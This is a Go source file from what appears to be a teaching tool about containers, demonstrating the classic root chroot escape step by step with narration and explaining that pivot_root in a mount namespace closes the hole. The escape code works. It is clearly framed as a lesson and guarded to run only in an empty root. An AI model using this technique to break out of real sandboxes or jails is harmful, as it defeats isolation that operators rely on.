package chroot

import (
	"errors"
	"io"
	"os"
	"path/filepath"

	"github.com/workshop-dev/workshop/internal/exit"
	"github.com/workshop-dev/workshop/internal/reexec"
	"github.com/workshop-dev/workshop/internal/sys"
	"golang.org/x/sys/unix"
)

const escapeInit = "chroot-escape"

// escapeDir is the directory the prisoner makes inside its jail and chroots
// into, so that its working directory is left above its root.
const escapeDir = "escape"

func init() { reexec.Register(escapeInit, func() int { return childMain(escape) }) }

// Escape is `workshop step 1 --demo escape`: a root process jailed in root
// climbs out and runs the host's ls /, whose listing goes to stdout. It then
// removes the directory the escape made inside the root.
func Escape(n *sys.Narrator, root string, stdout, stderr io.Writer) error {
	// The escape makes and removes a directory inside the root: never in a
	// root that holds something, which could be the host's / itself.
	if err := makeEmptyRoot(n, root, "the escape demo jails itself in an empty root"); err != nil {
		return err
	}
	abs, err := filepath.Abs(root)
	if err != nil {
		return err
	}
	n.Note("a child process will jail itself in %s, as root, and then climb out", abs)
	s := spec{Root: abs, Path: "/bin/ls", Argv: []string{"ls", "/"}, Env: commandEnv(), Narration: n.Options()}
	escaped, status, err := runChild(n, escapeInit, s, nil, stdout, stderr)
	// The escape left its stepping stone in the root: take it away.
	if _, serr := os.Lstat(filepath.Join(abs, escapeDir)); serr == nil {
		if rerr := n.Rmdir(filepath.Join(abs, escapeDir)); rerr != nil && err == nil {
			err = rerr
		}
	}
	if err != nil {
		return err
	}
	switch {
	case !escaped && status > exit.SignalBase:
		// A stop signal came before the escape ran: the child said so.
		return exit.Code(status, nil)
	case !escaped:
		return exit.Errorf(exit.ToolFailed, "the escape did not work this time (exit status %d): see the syscalls above", status)
	case status != 0:
		return exit.Errorf(status, "the escape worked, but the host's ls it ran ended with status %d", status)
	}
	n.Note("the listing above is the host's /, printed by the host's ls, from a process that was jailed in an empty root")
	n.Note("chroot only changes where path lookups start; a root process can move it again, and . can be left outside it")
	n.Note("what closes the hole: a mount namespace and pivot_root, which swaps the root mount and lets the old one be unmounted, so there is no way up (step 6)")
	return nil
}

// escape is the classic way out of a chroot, for a process that is root.
func escape(n *sys.Narrator, root string) error {
	// Into the jail, as step 1 does.
	if err := jail(n, root); err != nil {
		return err
	}
	n.Note("jailed: / is now %s. Now the way out:", root)
	// A directory to chroot into. It may be left from an interrupted run.
	if err := n.Because("a directory inside the jail, to chroot into").Mkdir(escapeDir, 0o755); err != nil && !errors.Is(err, unix.EEXIST) {
		return err
	}
	// The root moves down into escape/, but the working directory stays
	// where it was: above the new root, where ".." is not stopped.
	if err := n.Because("the root moves down into escape/; the working directory stays where it was, above it").Chroot(escapeDir); err != nil {
		return err
	}
	n.Note("the root is now %s/%s, and the working directory is above it: climb", root, escapeDir)
	here, err := n.Because("where am I? a directory is known by its device and inode").Stat(".")
	if err != nil {
		return err
	}
	// Climb until "." and ".." are the same directory: that is the real /.
	// (Real exploits just call chdir("..") a thousand times.)
	for i := 0; i < 4096; i++ {
		up, err := n.Because("and one level up? only the real / is its own parent").Stat("..")
		if err != nil {
			return err
		}
		if up.Dev == here.Dev && up.Ino == here.Ino {
			break
		}
		if err := n.Because("climb: nothing stops .. above the process's root").Chdir(".."); err != nil {
			return err
		}
		here = up
	}
	// Make the real / the root again.
	if err := n.Because("make the real / this process's root again").Chroot("."); err != nil {
		return err
	}
	if err := n.Chdir("/"); err != nil {
		return err
	}
	n.Note("out: this process's / is the host's / again; running the host's ls, which the jail never had")
	return nil
}
